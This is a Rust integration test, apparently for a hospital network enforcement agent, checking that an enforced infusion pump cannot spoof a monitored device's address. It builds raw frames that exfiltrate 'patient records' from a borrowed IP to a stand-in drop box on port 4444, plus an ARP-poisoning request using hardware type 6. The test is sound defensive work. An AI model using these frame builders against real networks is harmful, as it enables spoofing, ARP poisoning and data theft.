//! Attach tier: an enforced device borrows identities with a packet socket, as an attacker on
//! the device VLAN would. The agent binary runs in the gateway namespace against a real
//! controller (in-process, loopback, mTLS, the demo ward's site, an OCSF sink for the SOC). The
//! infusion pump `pump-3a-bed12` (enforce) sends UDP to the server from the address of
//! `monitor-3a-bed12` (monitor mode: its traffic passes) and ARP with hardware type 6 (IEEE
//! 802, which Linux takes on Ethernet) claiming that address. Nothing leaves, the gateway's
//! neighbour table does not learn the claim, and the SOC receives the spoofing, naming the
//! pump. Needs root; fails (never skips) without it.

mod support;

use std::{
    net::{SocketAddr, UdpSocket},
    path::Path,
    process::Command,
    time::{Duration, Instant},
};

use support::{lab::Lab, *};
use wardgate_controller::config::{SinkConfig, SinkKind};
use wardgate_testkit::{
    agent::AgentProcess,
    ward::{Ward, in_ns},
};

const PUMP: &str = "pump-3a-bed12";
const MONITOR: &str = "monitor-3a-bed12";
const MONITOR_IP: [u8; 4] = [192, 0, 2, 11];

/// The gateway's MAC on the device link.
fn gateway_mac(ward: &Ward) -> [u8; 6] {
    let out = Command::new("ip")
        .args([
            "-n",
            &ward.gw,
            "-br",
            "link",
            "show",
            wardgate_testkit::ward::DEV_IF,
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let field = text.split_whitespace().nth(2).expect("link address");
    let bytes: Vec<u8> = field
        .split(':')
        .map(|b| u8::from_str_radix(b, 16).unwrap())
        .collect();
    <[u8; 6]>::try_from(bytes).unwrap()
}

/// A UDP datagram from `src` to `dst` in a frame from the pump's MAC to the gateway.
fn udp_frame(gw_mac: [u8; 6], src: SocketAddr, dst: SocketAddr, payload: &[u8]) -> Vec<u8> {
    let (SocketAddr::V4(s), SocketAddr::V4(d)) = (src, dst) else {
        panic!("IPv4 only")
    };
    let mut out = Vec::new();
    etherparse::PacketBuilder::ethernet2(PUMP_MAC, gw_mac)
        .ipv4(s.ip().octets(), d.ip().octets(), 64)
        .udp(s.port(), d.port())
        .write(&mut out, payload)
        .unwrap();
    out
}

/// An ARP request with hardware type `htype` from the pump's MAC: "`sender_ip` is at the pump;
/// who has 192.0.2.1?". Linux answers a request for its own address by creating or updating
/// its entry for the sender.
fn arp_request(htype: u16, sender_ip: [u8; 4]) -> Vec<u8> {
    let mut f = vec![0xff; 6];
    f.extend_from_slice(&PUMP_MAC);
    f.extend_from_slice(&[0x08, 0x06]);
    f.extend_from_slice(&htype.to_be_bytes());
    f.extend_from_slice(&[0x08, 0x00, 6, 4, 0, 1]);
    f.extend_from_slice(&PUMP_MAC);
    f.extend_from_slice(&sender_ip);
    f.extend_from_slice(&[0; 6]);
    f.extend_from_slice(&[192, 0, 2, 1]);
    f
}

fn neighbour(ward: &Ward, addr: &str) -> String {
    let out = Command::new("ip")
        .args(["-n", &ward.gw, "neigh", "show", addr])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Datagrams received on `addr` in the server namespace within `wait` (a listener bound first).
fn listen(ward: &Ward, addr: SocketAddr) -> std::thread::JoinHandle<Vec<(SocketAddr, Vec<u8>)>> {
    let (tx, rx) = std::sync::mpsc::channel();
    let h = in_ns(&ward.srv, move || {
        let sock = UdpSocket::bind(addr).unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        tx.send(()).unwrap();
        let mut got = Vec::new();
        let deadline = Instant::now() + Duration::from_secs(4);
        let mut buf = [0u8; 2048];
        while Instant::now() < deadline {
            if let Ok((n, from)) = sock.recv_from(&mut buf) {
                got.push((from, buf[..n].to_vec()));
            }
        }
        got
    });
    rx.recv_timeout(Duration::from_secs(5)).unwrap();
    h
}

/// The SOC's spoofing findings (OCSF lines whose analytic is `spoof`): the device each names
/// and its description.
fn soc_spoofers(path: &Path) -> Vec<(String, String)> {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["finding_info"]["analytic"]["uid"] == "spoof")
        .map(|v| {
            (
                v["device"]["name"].as_str().unwrap_or_default().to_string(),
                v["finding_info"]["desc"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
            )
        })
        .collect()
}

#[test]
fn an_enforced_device_borrowing_a_monitored_address_gets_nothing_out_and_is_named() {
    require_privileges();
    let ward = Ward::new("spf");
    let dir = tempfile::tempdir().unwrap();
    let pin = PinRoot::new("spoofns");
    let ocsf = dir.path().join("soc.ocsf.jsonl");
    let lab = Lab::start_with_sinks(
        &ward,
        dir.path(),
        vec![SinkConfig {
            kind: SinkKind::Ocsf,
            name: None,
            address: None,
            tls: None,
            path: Some(ocsf.clone()),
            rotate_bytes: 64 << 20,
            keep: 5,
        }],
    );
    let config = lab.agent_config(dir.path(), &pin);
    let agent = AgentProcess::start(
        Path::new(env!("CARGO_BIN_EXE_wardgate-agent")),
        &ward.gw,
        &config,
        dir.path().join("agent.log"),
    );
    agent.wait_for("policy generation switched");
    let gw_mac = gateway_mac(&ward);

    // The crafted frames do reach the server when they are what the pump may send: its own
    // address to its DNS server (the profile allows udp/53 to 198.51.100.53).
    let dns: SocketAddr = "198.51.100.53:53".parse().unwrap();
    let control = listen(&ward, dns);
    let own: SocketAddr = "192.0.2.10:40053".parse().unwrap();
    send_frame(&ward.dev, "eth0", udp_frame(gw_mac, own, dns, b"control"));
    let got = control.join().unwrap();
    assert_eq!(
        got.len(),
        1,
        "the pump's own allowed datagram arrives: {got:?}"
    );

    // The attack: exfiltration from the monitor's address, one datagram.
    let drop_box: SocketAddr = "198.51.100.10:4444".parse().unwrap();
    let exfil = listen(&ward, drop_box);
    let borrowed: SocketAddr = "192.0.2.11:40000".parse().unwrap();
    let exfil_frame = udp_frame(gw_mac, borrowed, drop_box, b"patient records");
    send_frame(&ward.dev, "eth0", exfil_frame);
    // ARP poisoning with hardware type 6, claiming the monitor's address for the pump's MAC.
    let before = neighbour(&ward, "192.0.2.11");
    send_frame(&ward.dev, "eth0", arp_request(6, MONITOR_IP));
    let got = exfil.join().unwrap();
    assert!(
        got.is_empty(),
        "nothing leaves from a borrowed address: {got:?}"
    );
    let after = neighbour(&ward, "192.0.2.11");
    assert_eq!(
        after, before,
        "the gateway's neighbour table learned the claim"
    );
    assert!(!after.contains("02:00:00:00:00:0a"), "{after}");

    // The SOC receives the spoofing, named as the pump's (one finding per attack), never
    // blaming the monitor whose address was borrowed.
    let deadline = Instant::now() + Duration::from_secs(20);
    while soc_spoofers(&ocsf).len() < 2 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    // Settle: nothing more arrives.
    std::thread::sleep(Duration::from_secs(2));
    let spoofers = soc_spoofers(&ocsf);
    let names: Vec<&str> = spoofers.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        vec![PUMP, PUMP],
        "one spoofing finding per attack, each the pump's:\n{}\nagent log:\n{}",
        std::fs::read_to_string(&ocsf).unwrap_or_default(),
        agent.log_text()
    );
    assert!(
        spoofers[0]
            .1
            .contains("192.0.2.11:40000 -> 198.51.100.10:4444"),
        "{spoofers:?}"
    );
    assert!(
        spoofers[1].1.contains("claimed 192.0.2.11") && spoofers[1].1.contains(MONITOR),
        "the ARP claim, naming whose address it is: {spoofers:?}"
    );
    lab.stop();
}
